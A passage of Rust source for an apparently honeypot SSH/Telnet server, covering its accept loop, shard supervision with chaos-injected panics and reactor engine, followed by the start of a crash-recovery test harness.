        out
    }

    /// The v1 document (envelope kind `"serve_report"`), built from the
    /// same [`StatsSnapshot::api_json`] emitter `/api/stats` uses.
    pub fn api_json(&self) -> hutil::Json {
        use hutil::Json;
        hutil::api_envelope(
            "serve_report",
            Json::obj([
                ("counters", self.snapshot.api_json()),
                (
                    "ingest",
                    Json::obj([
                        ("accepted", Json::u64(self.ingest.accepted)),
                        ("retried", Json::u64(self.ingest.retried)),
                        ("dropped", Json::u64(self.ingest.dropped)),
                        ("quarantined", Json::u64(self.ingest.quarantined)),
                    ]),
                ),
                ("quarantined_rows", Json::u64(self.quarantined as u64)),
                (
                    "shard_panics",
                    Json::arr(self.shard_panics.iter().map(Json::str)),
                ),
            ]),
        )
    }

    /// Deterministic sample document for the `docs/api_v1` goldens.
    pub fn sample() -> Self {
        ServeReport {
            snapshot: StatsSnapshot {
                accepted: 202,
                shed_capacity: 0,
                shed_per_ip: 0,
                active: 0,
                completed: 200,
                timed_out: 1,
                wire_errors: 0,
                bytes_in: 123_456,
                bytes_out: 654_321,
                accept_errors: 0,
                panics_caught: 0,
                shards_respawned: 0,
            },
            ingest: IngestStats {
                accepted: 200,
                retried: 3,
                dropped: 0,
                quarantined: 0,
            },
            quarantined: 0,
            shard_panics: Vec::new(),
        }
    }
}

/// A running server: addresses, live stats, and the shutdown lever.
pub struct ServerHandle {
    addrs: ListenAddrs,
    stats: Arc<ServeStats>,
    gate: Arc<Gate>,
    shutdown: Arc<AtomicBool>,
    recovery: Option<RecoveryReport>,
    collector: Option<Arc<Collector>>,
    accept_threads: Vec<JoinHandle<()>>,
    supervisor: Option<JoinHandle<()>>,
    shard_panics: Arc<parking_lot::Mutex<Vec<String>>>,
    aggregator: Option<AggregatorHandle>,
    http: Option<crate::http::HttpHandle>,
}

impl ServerHandle {
    /// Bound listener addresses.
    pub fn addrs(&self) -> ListenAddrs {
        self.addrs
    }

    /// Point-in-time serving counters.
    pub fn stats(&self) -> StatsSnapshot {
        self.stats.snapshot()
    }

    /// Connections currently admitted.
    pub fn active(&self) -> usize {
        self.gate.active()
    }

    /// What crash recovery found (and did) in the spill store when this
    /// server opened it; `None` without a store.
    pub fn recovery(&self) -> Option<&RecoveryReport> {
        self.recovery.as_ref()
    }

    /// The most recently published observability snapshot (same
    /// lock-free read path the HTTP endpoints use).
    pub fn api_snapshot(&self) -> Option<Arc<ApiSnapshot>> {
        self.aggregator.as_ref().map(|a| a.cell.load())
    }

    /// Starts graceful shutdown: accept loops stop, shards drain.
    pub fn trigger_shutdown(&self) {
        self.shutdown.store(true, Ordering::Relaxed);
    }

    /// Whether shutdown has been triggered.
    pub fn shutting_down(&self) -> bool {
        self.shutdown.load(Ordering::Relaxed)
    }

    /// Triggers shutdown (idempotent), waits for every thread, seals the
    /// store, and returns the final accounting. A panic in any
    /// accept/supervisor/stats thread surfaces as
    /// [`ServeError::ThreadPanicked`] — after the store is sealed, so a
    /// sick run still keeps its data.
    pub fn join(mut self) -> Result<ServeReport, ServeError> {
        self.trigger_shutdown();
        let mut thread_panic: Option<(String, String)> = None;
        let mut note_panic = |name: &str, result: std::thread::Result<()>| {
            if let Err(payload) = result {
                let message = panic_message(payload.as_ref());
                if thread_panic.is_none() {
                    thread_panic = Some((name.to_string(), message));
                }
            }
        };
        for t in self.accept_threads.drain(..) {
            let name = t.thread().name().unwrap_or("accept").to_string();
            note_panic(&name, t.join());
        }
        if let Some(t) = self.supervisor.take() {
            note_panic("shard-supervisor", t.join());
        }
        // All shard senders are gone once the supervisor returns, so
        // dropping the handle's sender disconnects the aggregator; it
        // publishes a final snapshot covering every ingested session and
        // exits.
        if let Some(agg) = self.aggregator.take() {
            note_panic("serve-aggregator", agg.join());
        }
        if let Some(http) = self.http.take() {
            if let Err((thread, message)) = http.join() {
                if thread_panic.is_none() {
                    thread_panic = Some((thread, message));
                }
            }
        }
        let collector = self.collector.take().expect("join called once");
        let collector = Collector::try_from_arc(collector).map_err(|e| ServeError::Collector {
            message: e.to_string(),
        })?;
        let (ingest, quarantine) = collector
            .into_sink_parts()
            .map_err(|e| map_collector_error(&e))?;
        if let Some((thread, message)) = thread_panic {
            return Err(ServeError::ThreadPanicked { thread, message });
        }
        Ok(ServeReport {
            snapshot: self.stats.snapshot(),
            ingest,
            quarantined: quarantine.len(),
            shard_panics: self.shard_panics.lock().clone(),
        })
    }
}

fn map_collector_error(e: &CollectorError) -> ServeError {
    match e {
        CollectorError::Sink { message } => ServeError::Store {
            message: message.clone(),
        },
        other => ServeError::Collector {
            message: other.to_string(),
        },
    }
}

/// Removes this accept thread from every intake's producer count on
/// exit (panic included) and wakes the shards so they observe the
/// hangup — the drain protocol's "no more connections are coming".
struct ProducerGuard<'a> {
    intakes: &'a [Arc<Intake>],
}

impl Drop for ProducerGuard<'_> {
    fn drop(&mut self) {
        for intake in self.intakes {
            intake.queue.remove_producer();
            intake.waker.wake();
        }
    }
}

#[cfg(unix)]
fn listener_fd(listener: &TcpListener) -> i32 {
    use std::os::unix::io::AsRawFd;
    listener.as_raw_fd()
}

/// Re-arms the listener with a backlog sized to the connection cap.
/// `TcpListener::bind` hardcodes a backlog of 128; under a paper-scale
/// connect burst the accept queue overflows and every further SYN waits
/// a full kernel retransmit cycle (~1s on loopback), capping accept
/// throughput regardless of how fast the shards drain. Calling
/// `listen(2)` again on a listening socket just updates the backlog
/// (the kernel additionally clamps to `net.core.somaxconn`), so failure
/// here is harmless and ignored.
#[cfg(unix)]
fn deepen_backlog(listener: &TcpListener, max_connections: usize) {
    extern "C" {
        fn listen(fd: i32, backlog: i32) -> i32;
    }
    let backlog = max_connections.clamp(128, 65_535) as i32;
    unsafe {
        let _ = listen(listener_fd(listener), backlog);
    }
}

#[cfg(not(unix))]
fn deepen_backlog(_listener: &TcpListener, _max_connections: usize) {}

/// Deals an admitted connection into a shard queue, preferring its
/// round-robin home but overflowing to siblings when that ring is full.
/// Dropping the connection (shutdown with every ring full) releases its
/// permit.
fn dispatch(intakes: &[Arc<Intake>], admitted: Admitted, home: usize, shutdown: &AtomicBool) {
    let mut item = admitted;
    let mut target = home;
    let mut attempts = 0usize;
    loop {
        match intakes[target].queue.push(item) {
            Ok(()) => {
                // The waker's armed flag collapses this to one syscall
                // per shard per quiet period, not one per connection.
                intakes[target].waker.wake();
                return;
            }
            Err(back) => {
                item = back;
                target = (target + 1) % intakes.len();
                attempts += 1;
                if attempts.is_multiple_of(intakes.len()) {
                    if shutdown.load(Ordering::Relaxed) {
                        return; // drop: the permit releases the slot
                    }
                    std::thread::yield_now();
                }
            }
        }
    }
}

/// Accepts until shutdown, shedding over-limit connections at the door.
/// In reactor mode the thread parks in the poller between bursts; in
/// polled mode (or if a poller cannot be built) it naps adaptively.
#[allow(clippy::too_many_arguments)]
fn accept_loop(
    listener: TcpListener,
    proto: Proto,
    engine: Engine,
    intakes: &[Arc<Intake>],
    stats: &Arc<ServeStats>,
    gate: &Arc<Gate>,
    shutdown: &Arc<AtomicBool>,
    seq: &AtomicU64,
) {
    let _guard = ProducerGuard { intakes };
    #[cfg(unix)]
    let mut poller = if engine == Engine::Reactor {
        Poller::new().ok().and_then(|mut p| {
            p.register(listener_fd(&listener), 0, Interest::READ)
                .ok()
                .map(|()| p)
        })
    } else {
        None
    };
    #[cfg(not(unix))]
    let mut poller: Option<Poller> = {
        let _ = engine;
        None
    };
    let mut events: Vec<Event> = Vec::new();
    let mut nap = Backoff::new(Duration::from_micros(500));
    let mut backoff = Duration::from_millis(1);
    while !shutdown.load(Ordering::Relaxed) {
        let mut accepted_any = false;
        // Drain the backlog before waiting: under an accept storm the
        // backlog (typically 128) fills in milliseconds.
        loop {
            match listener.accept() {
                Ok((stream, peer)) => {
                    accepted_any = true;
                    backoff = Duration::from_millis(1);
                    stats.accepted.fetch_add(1, Ordering::Relaxed);
                    let client_ip = fold_peer_ip(peer.ip());
                    let permit = match gate.admit(client_ip, stats) {
                        Ok(p) => p,
                        Err(Admission::OverCapacity) => {
                            stats.shed_capacity.fetch_add(1, Ordering::Relaxed);
                            drop(stream); // shed: close before any protocol state exists
                            continue;
                        }
                        Err(_) => {
                            stats.shed_per_ip.fetch_add(1, Ordering::Relaxed);
                            drop(stream);
                            continue;
                        }
                    };
                    if stream.set_nonblocking(true).is_err() {
                        continue; // dropping the permit releases the slot
                    }
                    let _ = stream.set_nodelay(true);
                    let n = seq.fetch_add(1, Ordering::Relaxed);
                    let admitted = Admitted {
                        stream,
                        permit,
                        client_port: peer.port(),
                        proto,
                        start_unix: now_unix(),
                        seq: n,
                    };
                    dispatch(intakes, admitted, (n as usize) % intakes.len(), shutdown);
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(e) => {
                    stats.accept_errors.fetch_add(1, Ordering::Relaxed);
                    match e.kind() {
                        // Per-connection failures (peer vanished between
                        // SYN and accept): the queue may hold more.
                        std::io::ErrorKind::ConnectionAborted
                        | std::io::ErrorKind::ConnectionReset => continue,
                        // Resource exhaustion (EMFILE/ENFILE lands here
                        // as Other/Uncategorized) or anything unexpected:
                        // hot-spinning accept() cannot help — back off
                        // with a capped exponential sleep and let in-
                        // flight connections finish and free fds.
                        _ => {
                            std::thread::sleep(backoff);
                            backoff = (backoff * 2).min(Duration::from_millis(200));
                            break;
                        }
                    }
                }
            }
        }
        if accepted_any {
            nap.reset();
        } else {
            match poller.as_mut() {
                // Park in the kernel until the listener is readable; the
                // 50ms ceiling bounds shutdown-observation latency.
                Some(p) => {
                    if p.wait(Duration::from_millis(50), &mut events).is_err() {
                        poller = None; // degrade to adaptive naps
                    }
                }
                None => nap.wait(),
            }
        }
    }
    // Dropping the listener closes the socket: new connects are refused
    // immediately rather than parked in the backlog during the drain.
}

/// Runs the shard pool, respawning any shard thread that panics. Holds
/// every shard's intake queue behind an `Arc`, so a dead shard's queued
/// connections (gate permits included) survive into its replacement.
/// Returns once every shard has exited cleanly — which only happens
/// during shutdown, after the accept threads deregister as producers.
fn supervisor_loop(
    ctx: ShardCtx,
    engine: Engine,
    intakes: Vec<Arc<Intake>>,
    shard_panics: &parking_lot::Mutex<Vec<String>>,
) {
    let spawn_shard = |index: usize, generation: u64| -> JoinHandle<()> {
        let ctx = ctx.clone();
        let intake = Arc::clone(&intakes[index]);
        std::thread::Builder::new()
            .name(format!("shard-{index}"))
            .spawn(move || match engine {
                Engine::Reactor => shard_loop_reactor(index, generation, &intake, &ctx),
                Engine::Polled => shard_loop_polled(index, generation, &intake, &ctx),
            })
            .expect("spawn shard")
    };
    let mut generation = 0u64;
    let mut handles: Vec<Option<JoinHandle<()>>> = (0..intakes.len())
        .map(|i| Some(spawn_shard(i, 0)))
        .collect();
    let mut wait = Backoff::new(Duration::from_millis(2));
    loop {
        let mut any_alive = false;
        for (index, slot) in handles.iter_mut().enumerate() {
            let finished = slot.as_ref().is_some_and(JoinHandle::is_finished);
            if !finished {
                any_alive |= slot.is_some();
                continue;
            }
            let handle = slot.take().expect("finished handle present");
            if let Err(payload) = handle.join() {
                let message = panic_message(payload.as_ref());
                shard_panics
                    .lock()
                    .push(format!("shard-{index}: {message}"));
                if !ctx.shutdown.load(Ordering::Relaxed) {
                    // Respawn with a bumped generation (the chaos
                    // injectors are reseeded, so a deterministic
                    // injected panic does not immediately re-fire).
                    ctx.stats.shards_respawned.fetch_add(1, Ordering::Relaxed);
                    generation += 1;
                    *slot = Some(spawn_shard(index, generation));
                    any_alive = true;
                    wait.reset();
                }
                // During shutdown the replacement would have nothing to
                // do; the intake (and any queued permits) drop with
                // `intakes` below.
            }
            // A clean exit is final: it means shutdown drained the shard.
        }
        if !any_alive {
            return; // `intakes` drop here, releasing any queued permits
        }
        wait.wait();
    }
}

/// Per-shard chaos injectors, seeded per shard *and* per generation so
/// chaos runs are reproducible but a respawned shard rolls fresh dice.
fn chaos_injectors(
    ctx: &ShardCtx,
    index: usize,
    generation: u64,
) -> (FailureInjector, FailureInjector) {
    let salt = (index as u64)
        .wrapping_mul(0x9E37_79B9_7F4A_7C15)
        .wrapping_add(generation.wrapping_mul(0x517C_C1B7_2722_0A95));
    let conn_chaos = FailureInjector::new(ctx.chaos.conn_panic_rate, ctx.chaos.seed ^ salt);
    let shard_chaos = FailureInjector::new(
        ctx.chaos.shard_panic_rate,
        ctx.chaos.seed ^ salt ^ 0x5D5D_5D5D_5D5D_5D5D,
    );
    (conn_chaos, shard_chaos)
}

fn build_conn<'s>(a: Admitted, remote_ref: &'s dyn honeypot::shell::RemoteStore) -> Conn<'s> {
    let handler = LiveHandler::new(AuthPolicy::default(), remote_ref);
    match a.proto {
        Proto::Ssh => Conn::ssh(
            a.stream,
            a.permit,
            a.client_port,
            handler,
            a.start_unix,
            a.seq,
        ),
        Proto::Telnet => Conn::telnet(a.stream, a.permit, a.client_port, handler, a.start_unix),
    }
}

/// One polled worker shard: owns its connections, scans them without
/// blocking. The baseline engine. Each connection's pump runs under
/// `catch_unwind`, so one poisoned session cannot take the shard (or
/// its siblings' gate slots) with it.
fn shard_loop_polled(index: usize, generation: u64, intake: &Arc<Intake>, ctx: &ShardCtx) {
    let remote_ref: &dyn honeypot::shell::RemoteStore = &*ctx.remote;
    let (mut conn_chaos, mut shard_chaos) = chaos_injectors(ctx, index, generation);
    // `doomed` marks connections the chaos config sentenced at intake;
    // the panic fires inside the per-connection guard.
    let mut conns: Vec<(Conn<'_>, bool)> = Vec::new();
    let mut intake_open = true;
    let mut drain_started: Option<Instant> = None;
    let mut nap = Backoff::new(Duration::from_millis(1));

    loop {
        // Intake: move admitted sockets into the shard. Lock-free, so
        // the supervisor never deadlocks with a live shard and a
        // respawned shard inherits the queue seamlessly.
        let mut took_any = false;
        while intake_open {
            match intake.queue.pop() {
                PopResult::Item(a) => {
                    if shard_chaos.fires() {
                        // Outside the per-connection guard: this kills
                        // the whole shard thread. `a` (and its permit)
                        // and every owned connection release on unwind.
                        panic!("chaos: injected shard panic");
                    }
                    took_any = true;
                    let doomed = conn_chaos.fires();
                    conns.push((build_conn(a, remote_ref), doomed));
                }
                PopResult::Empty => break,
                PopResult::Closed => {
                    intake_open = false;
                    break;
                }
            }
        }

        // Drain policy: once shutdown is triggered, keep pumping in-flight
        // sessions for at most `drain_timeout`, then force-close the rest.
        let draining = ctx.shutdown.load(Ordering::Relaxed);
        if draining && drain_started.is_none() {
            drain_started = Some(Instant::now());
        }
        let force_close = matches!(drain_started, Some(t0) if t0.elapsed() >= ctx.drain_timeout);

        let now = Instant::now();
        let mut finished_any = false;
        let mut i = 0;
        while i < conns.len() {
            let pumped = {
                let (conn, doomed) = &mut conns[i];
                if force_close {
                    conn.abort();
                }
                catch_unwind(AssertUnwindSafe(|| {
                    if *doomed {
                        panic!("chaos: injected connection panic");
                    }
                    force_close || conn.pump(now, ctx.idle_timeout, ctx.session_timeout, &ctx.stats)
                }))
            };
            match pumped {
                Ok(false) => i += 1,
                Ok(true) => {
                    finished_any = true;
                    let (conn, _) = conns.swap_remove(i);
                    ctx.record_finished(conn);
                }
                Err(_payload) => {
                    // Contained: record a failed session from plain
                    // fields only (the machine may be poisoned), release
                    // the slot via the permit, keep the shard alive.
                    finished_any = true;
                    let (conn, _) = conns.swap_remove(i);
                    ctx.record_failed(conn);
                }
            }
        }

        if took_any || finished_any {
            nap.reset();
        }
        if conns.is_empty() {
            // Exit once the accept side has hung up (it deregisters as a
            // producer when it observes shutdown, closing the queue) —
            // late-admitted sockets arrive through the intake loop above
            // first, so no gate slot is ever stranded.
            if !intake_open {
                return;
            }
            nap.wait();
        } else {
            // Adaptive yield between scan rounds; the pump loop itself
            // runs until it stops making progress.
            nap.wait();
        }
    }
}

/// A connection slot in a reactor shard. `generation` invalidates
/// stale timer-wheel entries after the slot is reused.
struct ShardSlot<'s> {
    conn: Conn<'s>,
    doomed: bool,
    generation: u64,
    armed: Interest,
}

/// One reactor worker shard: readiness-driven. Connections are pumped
/// when epoll reports their socket ready or their timer-wheel deadline
/// fires — never scanned. The intake waker pops the shard out of
/// `epoll_wait` when the accept thread queues a socket. Crash
/// containment is identical to the polled engine: per-connection
/// `catch_unwind`, shard-level chaos at intake.
fn shard_loop_reactor(index: usize, generation: u64, intake: &Arc<Intake>, ctx: &ShardCtx) {
    let mut poller = match Poller::new() {
        Ok(p) => p,
        // No readiness API after all (fd exhaustion at spawn): degrade
        // to the polled engine rather than dying.
        Err(_) => return shard_loop_polled(index, generation, intake, ctx),
    };
    if poller
        .register(intake.waker.fd(), Waker::TOKEN, Interest::READ)
        .is_err()
    {
        return shard_loop_polled(index, generation, intake, ctx);
    }
    let remote_ref: &dyn honeypot::shell::RemoteStore = &*ctx.remote;
    let (mut conn_chaos, mut shard_chaos) = chaos_injectors(ctx, index, generation);

    let mut slots: Vec<Option<ShardSlot<'_>>> = Vec::new();
    let mut free: Vec<usize> = Vec::new();
    let mut live = 0usize;
    let mut slot_gen = 0u64;
    let mut wheel = TimerWheel::new(256, Duration::from_millis(100), Instant::now());
    // One shared read buffer for every connection on the shard, plus a
    // pool of reclaimed output buffers — per-connection allocation
    // churn drops to (at most) one pool miss per intake.
    let mut read_buf = vec![0u8; 16 * 1024];
    let mut out_pool: Vec<Vec<u8>> = Vec::new();
    const POOL_CAP: usize = 256;
    const POOL_BUF_MAX: usize = 64 * 1024;

    let mut events: Vec<Event> = Vec::new();
    let mut expired: Vec<(u64, u64)> = Vec::new();
    let mut intake_open = true;
    let mut drain_started: Option<Instant> = None;

    // Pumps slot `i` under the per-connection guard; returns and frees
    // the slot if the connection finished (or its pump panicked).
    // Implemented as a macro-free closure-by-convention: the borrow
    // checker cannot split `slots`/`poller`/`wheel` through a closure,
    // so this is a local fn taking everything it touches.
    #[allow(clippy::too_many_arguments)]
    fn pump_slot(
        i: usize,
        force_close: bool,
        now: Instant,
        slots: &mut Vec<Option<ShardSlot<'_>>>,
        free: &mut Vec<usize>,
        live: &mut usize,
        poller: &mut Poller,
        out_pool: &mut Vec<Vec<u8>>,
        read_buf: &mut [u8],
        ctx: &ShardCtx,
    ) {
        let Some(slot) = slots.get_mut(i).and_then(Option::as_mut) else {
            return; // already finished this tick (e.g. event + timer)
        };
        if force_close {
            slot.conn.abort();
        }
        let doomed = slot.doomed;
        let pumped = catch_unwind(AssertUnwindSafe(|| {
            if doomed {
                panic!("chaos: injected connection panic");
            }
            force_close
                || slot.conn.pump_buf(
                    read_buf,
                    now,
                    ctx.idle_timeout,
                    ctx.session_timeout,
                    &ctx.stats,
                )
        }));
        let finished = !matches!(pumped, Ok(false));
        if finished {
            let mut slot = slots[i].take().expect("slot checked above");
            #[cfg(unix)]
            let _ = poller.deregister(slot.conn.raw_fd());
            let buf = slot.conn.reclaim_out_buffer();
            if out_pool.len() < POOL_CAP && buf.capacity() > 0 && buf.capacity() <= POOL_BUF_MAX {
                out_pool.push(buf);
            }
            match pumped {
                Err(_payload) => ctx.record_failed(slot.conn),
                _ => ctx.record_finished(slot.conn),
            }
            free.push(i);
            *live -= 1;
            // Any timer-wheel entries for this slot die via the slot
            // generation check when they fire.
        } else {
            // Re-arm write interest only when it changed — kernel
            // round-trips on interest are not free.
            let want = conn_interest(slot.conn.wants_write());
            if want != slot.armed {
                #[cfg(unix)]
                let _ = poller.reregister(slot.conn.raw_fd(), i as u64, want);
                slot.armed = want;
            }
        }
    }

    loop {
        // Intake: move admitted sockets into slots, register them with
        // the poller and the timer wheel, and give them their first
        // pump (the SSH banner goes out here; a scanner that connects
        // and hangs up may finish on this very pump).
        let mut force_close =
            matches!(drain_started, Some(t0) if t0.elapsed() >= ctx.drain_timeout);
        while intake_open {
            match intake.queue.pop() {
                PopResult::Item(a) => {
                    if shard_chaos.fires() {
                        // Outside the per-connection guard: kills the
                        // whole shard thread. `a` (and its permit) and
                        // every owned connection release on unwind.
                        panic!("chaos: injected shard panic");
                    }
                    let doomed = conn_chaos.fires();
                    let mut conn = build_conn(a, remote_ref);
                    if let Some(buf) = out_pool.pop() {
                        conn.adopt_out_buffer(buf);
                    }
                    let i = free.pop().unwrap_or_else(|| {
                        slots.push(None);
                        slots.len() - 1
                    });
                    slot_gen += 1;
                    slots[i] = Some(ShardSlot {
                        conn,
                        doomed,
                        generation: slot_gen,
                        armed: Interest::READ,
                    });
                    live += 1;
                    // Register before the first pump so no readiness
                    // edge is lost between pump and registration.
                    #[cfg(unix)]
                    {
                        let slot = slots[i].as_ref().expect("just placed");
                        if poller
                            .register(slot.conn.raw_fd(), i as u64, Interest::READ)
                            .is_err()
                        {
                            // Cannot watch this socket: fail the session
                            // rather than strand it unpumped forever.
                            let mut slot = slots[i].take().expect("just placed");
                            slot.conn.abort();
                            ctx.record_finished(slot.conn);
                            free.push(i);
                            live -= 1;
                            continue;
                        }
                    }
                    let now = Instant::now();
                    pump_slot(
                        i,
                        force_close,
                        now,
                        &mut slots,
                        &mut free,
                        &mut live,
                        &mut poller,
                        &mut out_pool,
                        &mut read_buf,
                        ctx,
                    );
                    if let Some(slot) = slots.get(i).and_then(Option::as_ref) {
                        wheel.insert(
                            i as u64,
                            slot.generation,
                            slot.conn.deadline(ctx.idle_timeout, ctx.session_timeout),
                        );
                    }
                }
                PopResult::Empty => break,
                PopResult::Closed => {
                    intake_open = false;
                }
            }
        }

        // Drain policy: identical to the polled engine.
        let draining = ctx.shutdown.load(Ordering::Relaxed);
        if draining && drain_started.is_none() {
            drain_started = Some(Instant::now());
        }
        if !force_close {
            force_close = matches!(drain_started, Some(t0) if t0.elapsed() >= ctx.drain_timeout);
        }
        if force_close && live > 0 {
            // Sweep every in-flight connection closed (recorded as
            // timed out), exactly like the polled engine's final round.
            let now = Instant::now();
            for i in 0..slots.len() {
                pump_slot(
                    i,
                    true,
                    now,
                    &mut slots,
                    &mut free,
                    &mut live,
                    &mut poller,
                    &mut out_pool,
                    &mut read_buf,
                    ctx,
                );
            }
        }

        if live == 0 && !intake_open {
            return; // drained and the accept side hung up
        }

        // Park until something is ready. The ceiling bounds how late we
        // observe shutdown, drain expiry, and timer-wheel deadlines.
        let timeout = if draining {
            Duration::from_millis(10)
        } else {
            Duration::from_millis(50)
        };
        if poller.wait(timeout, &mut events).is_err() {
            events.clear();
        }
        let now = Instant::now();
        let mut woken = false;
        for ev in &events {
            let ev = *ev;
            if ev.token == Waker::TOKEN {
                woken = true;
                continue;
            }
            pump_slot(
                ev.token as usize,
                force_close,
                now,
                &mut slots,
                &mut free,
                &mut live,
                &mut poller,
                &mut out_pool,
                &mut read_buf,
                ctx,
            );
        }
        if woken {
            // Drain *after* pumping so a wake arriving mid-loop is
            // consumed only once the queue is about to be re-polled.
            intake.waker.drain();
        }

        // Timer wheel: fire expired deadlines. Entries carry the slot
        // generation, so a reused slot ignores its predecessor's
        // timers; a deadline pushed forward by activity re-inserts.
        wheel.advance(now, &mut expired);
        for (token, gen) in expired.drain(..) {
            let i = token as usize;
            let Some(slot) = slots.get(i).and_then(Option::as_ref) else {
                continue;
            };
            if slot.generation != gen {
                continue;
            }
            let deadline = slot.conn.deadline(ctx.idle_timeout, ctx.session_timeout);
            if deadline <= now {
                // Really expired: the pump's own deadline check marks
                // it timed out and finishes it.
                pump_slot(
                    i,
                    force_close,
                    now,
                    &mut slots,
                    &mut free,
                    &mut live,
                    &mut poller,
                    &mut out_pool,
                    &mut read_buf,
                    ctx,
                );
                if let Some(slot) = slots.get(i).and_then(Option::as_ref) {
                    // Survived (activity raced the deadline): rearm.
                    wheel.insert(
                        i as u64,
                        slot.generation,
                        slot.conn.deadline(ctx.idle_timeout, ctx.session_timeout),
                    );
                }
            } else {
                wheel.insert(token, gen, deadline);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv6Addr;

    #[test]
    fn serve_report_render_and_api_json_agree() {
        let report = ServeReport::sample();
        let text = report.render();
        assert!(text.starts_with("final: accepted=202"));
        assert!(text.contains("collector: 200 accepted, 0 dropped, 0 quarantined"));
        let doc = report.api_json();
        assert_eq!(
            doc.get("kind").and_then(hutil::Json::as_str),
            Some("serve_report")
        );
        let data = doc.get("data").unwrap();
        assert_eq!(
            data.get("counters")
                .and_then(|c| c.get("accepted"))
                .and_then(hutil::Json::as_i64),
            Some(202)
        );
        assert_eq!(
            data.get("ingest")
                .and_then(|c| c.get("accepted"))
                .and_then(hutil::Json::as_i64),
            Some(200)
        );
    }

    #[test]
    fn fold_preserves_v4_addresses() {
        let ip = IpAddr::V4(std::net::Ipv4Addr::new(203, 0, 113, 9));
        assert_eq!(
            fold_peer_ip(ip),
            netsim::Ipv4Addr::from_octets(203, 0, 113, 9)
        );
    }

    #[test]
    fn fold_gives_distinct_v6_peers_distinct_reserved_slots() {
        let a = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)));
        let b = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 2)));
        let loopback = fold_peer_ip(IpAddr::V6(Ipv6Addr::LOCALHOST));
        assert_ne!(a, b, "distinct v6 peers must not share a per-IP slot");
        for ip in [a, b, loopback] {
            assert_eq!(ip.0 >> 24, 240, "v6 folds into reserved 240/8: {}", ip.0);
        }
        // Stable: the same peer always folds to the same slot.
        assert_eq!(
            a,
            fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)))
        );
    }
}
