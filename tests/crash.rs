//! Crash harness: SIGKILLs a real `honeylab serve` process at seeded
//! points and proves the WAL + recovery path keeps every acknowledged
//! session.
//!
//! "Acknowledged" means the harness observed the session durable on disk
//! (sealed into a segment, or framed in the WAL with `--fsync-every 1`)
//! before the kill. SIGKILL does not clear the page cache, so bytes the
//! harness has already read back from those files are guaranteed to
//! survive the process's death.

use honeylab::sessiondb::{recover, recovery_preview, Store};
use honeylab::sshwire::{ClientScript, SshClient};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

extern "C" {
    fn kill(pid: i32, sig: i32) -> i32;
}
const SIGKILL: i32 = 9;

fn sigkill(child: &Child) {
    let rc = unsafe { kill(child.id() as i32, SIGKILL) };
    assert_eq!(rc, 0, "SIGKILL failed");
}

struct Serve {
    child: Child,
    addr: SocketAddr,
    /// Collects everything the server writes after startup.
    stderr: std::thread::JoinHandle<String>,
}

/// Launches `honeylab serve` against `store`, waits for the listener
/// line, and leaves stdin piped open (closing it requests a drain).
fn spawn_serve(store: &Path, extra: &[&str]) -> Serve {
    let mut child = Command::new(env!("CARGO_BIN_EXE_honeylab"))
        .arg("serve")
        .args(["--ssh-port", "0", "--stats-secs", "0", "--workers", "2"])
        .args(["--store", store.to_str().unwrap()])
        .args(extra)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn honeylab serve");
    let mut reader = BufReader::new(child.stderr.take().expect("piped stderr"));
    let mut addr = None;
    let mut line = String::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while addr.is_none() {
        assert!(
            Instant::now() < deadline,
            "server never announced a listener"
        );
        line.clear();
        let n = reader.read_line(&mut line).expect("read server stderr");
        assert!(n > 0, "server exited before announcing a listener");
        if let Some(rest) = line.trim().strip_prefix("listening ssh on ") {
            addr = Some(rest.parse().expect("listener address"));
        }
    }
    // Drain the rest in the background so the server never blocks on a
    // full stderr pipe; the transcript comes back at join time.
    let stderr = std::thread::spawn(move || {
        let mut rest = String::new();
        let _ = reader.read_to_string(&mut rest);
        rest
    });
    Serve {
        child,
        addr: addr.unwrap(),
        stderr,
    }
}

fn temp_store(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("crash-harness-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Plays a full scripted SSH dialogue; panics if it cannot complete
/// (acknowledged sessions must finish cleanly).
fn drive_full(addr: SocketAddr, script: ClientScript) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    let _ = stream.set_nodelay(true);
    let mut client = SshClient::new(script, b"crash-harness-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(30);
    while !client.is_closed() {
        assert!(Instant::now() < deadline, "client dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => client.input(&buf[..n]).expect("client protocol"),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => panic!("client read failed: {e}"),
        }
    }
    let out = client.take_output();
    if !out.is_empty() {
        let _ = stream.write_all(&out);
    }
}

/// Sessions currently durable on disk: sealed segment rows plus valid
/// WAL frames. Both reads are CRC-checked and read-only, so they are
/// safe against the live writer.
fn durable_rows(store: &Path) -> u64 {
    let sealed = Store::open(store).map(|s| s.summary().rows).unwrap_or(0);
    let framed = recovery_preview(store).map(|r| r.wal_frames).unwrap_or(0);
    sealed + framed
}

/// One seeded kill point: settle some sessions, confirm they are
/// durable, put more in flight, SIGKILL, recover, and verify.
fn kill_point(iter: u64, settled: u64, inflight: u64, rows_per_segment: u64, jitter_ms: u64) {
    let store = temp_store(&format!("kp{iter}"));
    let rps = rows_per_segment.to_string();
    let serve = spawn_serve(&store, &["--fsync-every", "1", "--rows-per-segment", &rps]);
    let addr = serve.addr;

    let markers: Vec<String> = (0..settled)
        .map(|i| format!("settled-{iter}-{i}"))
        .collect();
    for m in &markers {
